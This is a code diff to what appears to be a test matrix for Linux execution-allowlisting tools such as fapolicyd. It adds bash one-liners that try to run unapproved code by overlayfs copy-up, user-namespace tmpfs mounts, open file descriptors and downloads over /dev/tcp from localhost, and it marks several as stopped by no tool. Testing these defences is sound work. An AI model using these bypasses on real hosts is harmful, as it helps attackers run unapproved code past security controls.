@@ -117,6 +117,11 @@ export const ways: readonly Way[] = [
   },
   { name: "a library, by `dlopen`", run: `${starts} by_library_call "$BAD_SO"`, deniedBy: everyOpenMark },
   { name: "copied into a memfd", run: `${starts} copied_into_memfd "$BAD"`, deniedBy: everyOpenMark },
+  {
+    name: "read by its handle (`open_by_handle_at`, root) into a memfd",
+    run: `${starts} by_handle "$BAD"`,
+    deniedBy: everyOpenMark,
+  },
   { name: "read by io_uring into a memfd", run: `${starts} by_io_uring "$BAD"`, deniedBy: everyOpenMark },
   {
     name: "downloaded into a new file, `ld-linux.so ./new`",
@@ -127,6 +132,18 @@ export const ways: readonly Way[] = [
     name: "script, downloaded into a new file, `sh new.sh`",
     run: `cat < "/dev/tcp/127.0.0.1/$BAD_SH_PORT" > new.sh; sh new.sh`,
     deniedBy: everyOpening,
+  },
+  {
+    name: "script, copied up by an overlayfs, `sh copy.sh`",
+    run: `mkdir "$MEMORY/up" "$MEMORY/work" "$SCRATCH/all"
+      mount -t overlay -o "lowerdir=$PWD,upperdir=$MEMORY/up,workdir=$MEMORY/work" overlay "$SCRATCH/all"
+      chmod 700 "$SCRATCH/all/bad.sh"; sh "$MEMORY/up/bad.sh"`,
+    deniedBy: everyOpenMark,
+  },
+  {
+    name: "script of more than 64 MiB, downloaded into a new file, `sh new.sh`",
+    run: `cat < "/dev/tcp/127.0.0.1/$BIG_SH_PORT" > "$MEMORY/new.sh"; sh "$MEMORY/new.sh"`,
+    deniedBy: ["fapolicyd-strict"],
   },
 
   // Against the clock.
@@ -162,6 +179,20 @@ export const ways: readonly Way[] = [
     name: "on a disk mounted later, within 5 s",
     run: `mount -o loop "$LATER" "$MOUNT_POINT"; soon "$MOUNT_POINT/bad" ${run}`,
     deniedBy: everyone,
+  },
+  {
+    name: "script on a disk mounted later, `sh bad.sh`, within 5 s",
+    run: `mount -o loop "$LATER" "$MOUNT_POINT"; soon sh "$MOUNT_POINT/bad.sh"`,
+    deniedBy: everyOpening,
+  },
+  {
+    name: "by an ordinary user, on a tmpfs mounted later in a user namespace, at once",
+    run: `for _ in 1 2 3; do
+        [ -e "$MARK" ] || setpriv --reuid 65534 --regid 65534 --clear-groups unshare -Urm bash -c '
+          mount -t tmpfs later "$MOUNT_POINT" && cd "$MOUNT_POINT" \\
+          && cat < "/dev/tcp/127.0.0.1/$BAD_PORT" > new && chmod +x new && ./new -c ": > $MARK"'
+      done`,
+    deniedBy: nobody,
   },
   {
     name: "on a tmpfs mounted later in another mount namespace, at once",
@@ -216,6 +247,11 @@ export const ways: readonly Way[] = [
 
   // What a list of digests cannot stop.
   { name: "one changed byte", run: `${changedCopy}; ./changed ${run}`, deniedBy: nobody },
+  {
+    name: "script, written into a file that was opened when it was empty",
+    run: `: > new.sh; exec 9< new.sh; cat < "/dev/tcp/127.0.0.1/$BAD_SH_PORT" > new.sh; sh <&9`,
+    deniedBy: nobody,
+  },
   { name: "downloaded into a memfd", run: `${starts} port_into_memfd "$BAD_PORT"`, deniedBy: nobody },
   { name: "script, downloaded straight into `sh`", run: 'sh < "/dev/tcp/127.0.0.1/$BAD_SH_PORT"', deniedBy: nobody },
   {
@@ -232,10 +268,10 @@ export function isPossible({ sinceKernel = "0.0" }: Way, release: string): boole
   return major > wantedMajor || (major === wantedMajor && minor >= wantedMinor);
 }
 
-/** What bash knows in every row: `soon` repeats a start until it is denied, for 5 s; the last one counts. */
+/** What bash knows in every row: `soon` repeats a start until it is denied, for SOON_SEC; the last one counts. */
 export const prelude = `
 soon() {
-  local end=$((SECONDS + 5))
+  local end=$((SECONDS + SOON_SEC))
   while rm -f "$MARK"; "$@"; [ -e "$MARK" ]; do [ $SECONDS -lt $end ] || return 0; read -rt 0.05 _ <> <(:) || true; done
 }
 export -f soon
